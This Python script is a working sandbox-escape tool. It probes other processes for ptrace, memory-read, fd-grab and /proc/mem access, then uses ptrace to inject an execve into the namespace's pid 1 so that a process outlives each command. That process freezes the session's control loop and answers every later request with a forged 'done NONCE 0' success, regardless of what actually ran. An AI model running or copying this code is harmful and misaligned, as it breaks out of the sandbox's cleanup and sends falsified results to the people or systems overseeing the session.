"""Run inside a sandbox session as a command: take over a process that outlives it.

The loop kills every process of the sandbox after each command, but never
the namespace's pid 1 (the kernel shields an init from its namespace's
signals). If pid 1 can be traced, a command makes it ``execve`` a program of
the command's choosing, which then lives for the whole session; if pid 1
also holds the session's control channel (its fd 0), that program stops the
loop and answers each later request itself: ``done NONCE 0`` with output it
chose, whatever the command really did.

Usage: ``python3 pid1_takeover.py probe`` prints one word per door (for
every process in the sandbox that is not this one): ``ptrace``,
``vm-read``, ``getfd``, ``mem`` when open, ``...-denied`` when shut.
``python3 pid1_takeover.py inject`` tries the takeover (x86_64 only) and
prints ``injected`` or why not. ``python3 pid1_takeover.py answer`` is the
program pid 1 is made to run: it answers for the loop.
"""

import ctypes
import os
import platform
import signal
import socket
import struct
import sys
import time

PTRACE_ATTACH = 16
PTRACE_DETACH = 17
PTRACE_GETREGS = 12
PTRACE_SETREGS = 13
PTRACE_POKEDATA = 5
PTRACE_SEIZE = 0x4206
PIDFD_OPEN = 434
PIDFD_GETFD = 438
PROCESS_VM_READV = 310  # x86_64

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.syscall.restype = ctypes.c_long


class Regs(ctypes.Structure):
    """``struct user_regs_struct`` of x86_64."""

    _NAMES = (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax "
        "rip cs eflags rsp ss fs_base gs_base ds es fs gs"
    )
    _fields_ = [(name, ctypes.c_ulonglong) for name in _NAMES.split()]


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def others() -> list[int]:
    me = os.getpid()
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me)


def probe(pid: int) -> list[str]:
    words = []
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
        words.append("ptrace")
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    else:
        words.append("ptrace-denied")
    buf = ctypes.create_string_buffer(8)
    local = IoVec(ctypes.cast(buf, ctypes.c_void_p), 8)
    maps_start = None
    try:
        with open(f"/proc/{pid}/maps") as maps:
            maps_start = int(maps.readline().split("-")[0], 16)
    except (OSError, ValueError, IndexError):
        pass
    remote = IoVec(maps_start or 0x400000, 8)
    got = libc.syscall(PROCESS_VM_READV, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    words.append("vm-read" if got > 0 else "vm-read-denied")
    pidfd = libc.syscall(PIDFD_OPEN, pid, 0)
    if pidfd < 0:
        words.append("pidfd-denied")
    else:
        fd = libc.syscall(PIDFD_GETFD, pidfd, 0, 0)
        words.append("getfd" if fd >= 0 else "getfd-denied")
        if fd >= 0:
            os.close(fd)
        os.close(pidfd)
    try:
        with open(f"/proc/{pid}/mem", "r+b", 0):
            words.append("mem")
    except OSError:
        words.append("mem-denied")
    return words


def poke(pid: int, addr: int, data: bytes) -> None:
    data += b"\0" * (-len(data) % 8)
    for i in range(0, len(data), 8):
        (word,) = struct.unpack("<q", data[i : i + 8])
        if libc.ptrace(PTRACE_POKEDATA, pid, ctypes.c_void_p(addr + i), ctypes.c_void_p(word)) < 0:
            raise OSError(ctypes.get_errno(), "poke")


def inject(pid: int, argv: list[str]) -> str:
    """Make ``pid`` execve ``argv``: write the strings and a ``syscall``
    instruction into it, point its registers at them, let it go."""
    if platform.machine() != "x86_64":
        return "not-x86_64"
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        return "attach-denied"
    os.waitpid(pid, getattr(os, "__WALL", 0x40000000))
    regs = Regs()
    if libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(regs)) != 0:
        return "getregs-denied"
    # below the red zone of the stack: the strings, then argv's pointers
    base = (regs.rsp - 4096) & ~0xF
    at, pointers = base, []
    for arg in argv:
        raw = arg.encode() + b"\0"
        poke(pid, at, raw)
        pointers.append(at)
        at += (len(raw) + 7) & ~7
    vector = at
    poke(pid, vector, struct.pack(f"<{len(pointers) + 1}Q", *pointers, 0))
    poke(pid, regs.rip, b"\x0f\x05")  # syscall
    regs.rax = 59  # execve
    regs.orig_rax = 2**64 - 1  # no restart of the syscall it was in
    regs.rdi, regs.rsi, regs.rdx = pointers[0], vector, 0
    regs.rsp = base - 256
    if libc.ptrace(PTRACE_SETREGS, pid, None, ctypes.byref(regs)) != 0:
        return "setregs-denied"
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return "injected"


def _loop() -> int | None:
    for pid in others():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"nl=" in f.read():
                    return pid
        except OSError:
            pass
    return None


def _has_children(pid: int) -> bool:
    for other in others():
        try:
            with open(f"/proc/{other}/stat") as f:
                if int(f.read().rsplit(")", 1)[1].split()[1]) == pid:
                    return True
        except (OSError, ValueError, IndexError):
            pass
    return False


def answer() -> None:
    """As pid 1: stop the loop once it is idle, then answer every request in its place."""
    loop, idle = _loop(), 0
    while loop is not None and idle < 3:  # idle: waiting for a request, no command running
        time.sleep(0.002)
        idle = 0 if _has_children(loop) else idle + 1
    if loop is not None:
        os.kill(loop, signal.SIGSTOP)
    channel = socket.socket(fileno=0)
    pending = b""
    while True:
        data = channel.recv(65536)
        if not data:
            return
        pending += data
        while b"\n" in pending:
            line, _, pending = pending.partition(b"\n")
            nonce = line.split(b" ", 1)[0]
            os.write(1, b"forged\n")
            channel.sendall(b"done " + nonce + b" 0\n")


def main() -> None:
    what = sys.argv[1]
    if what == "probe":
        for pid in others():
            print(pid, *probe(pid))
    elif what == "inject":
        here = os.path.abspath(__file__)
        print(inject(1, ["/usr/bin/python3", here, "answer"]))
    elif what == "answer":
        answer()


if __name__ == "__main__":
    main()
